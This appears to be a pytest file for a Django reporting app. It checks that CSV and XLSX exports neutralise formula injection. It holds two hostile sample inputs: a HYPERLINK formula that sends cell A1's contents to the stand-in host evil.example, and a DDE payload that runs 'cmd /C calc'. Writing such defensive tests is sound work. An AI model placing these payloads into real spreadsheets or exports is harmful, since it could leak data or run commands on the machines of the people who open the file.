"""Free text in the answers and roll-up exports comes out inert (core.spreadsheet), in CSV and in XLSX."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from beredd.reporting.services import submissions as services
from beredd.reporting.tests.conftest import GOOD, issue
from beredd.reporting.tests.helpers import as_user, sub

EVIL = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'


def _cells(response: object, fmt: str) -> list[tuple[object, str]]:
    content = response.content  # type: ignore[attr-defined]
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        return [(v, "s") for row in csv.reader(io.StringIO(text), delimiter=";") for v in row]
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["answers", "rollup"])
def test_a_formula_in_free_text_or_a_unit_name_is_exported_inert(
    client: Client, world: SimpleNamespace, kind: str, fmt: str
) -> None:
    unit = world.g1
    unit.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    unit.save(update_fields=["name"])
    round_ = issue(world)
    services.submission_submit(actor=world.g1_reporter, submission=sub(world, round_, "g1"), data=GOOD | {"assessment": EVIL})
    instance = round_.instances.get()
    response = as_user(client, world.gavle_coord).get(reverse("reporting:export", args=[instance.pk, kind, fmt]))
    assert response.status_code == 200
    cells = _cells(response, fmt)
    assert all(t != "f" for _v, t in cells)
    values = [v for v, _t in cells]
    expected = [unit.name] if kind == "rollup" else [unit.name, EVIL]
    for text in expected:
        assert ("'" + text if fmt == "csv" else text) in values
        assert fmt == "xlsx" or text not in values  # never the raw formula in CSV
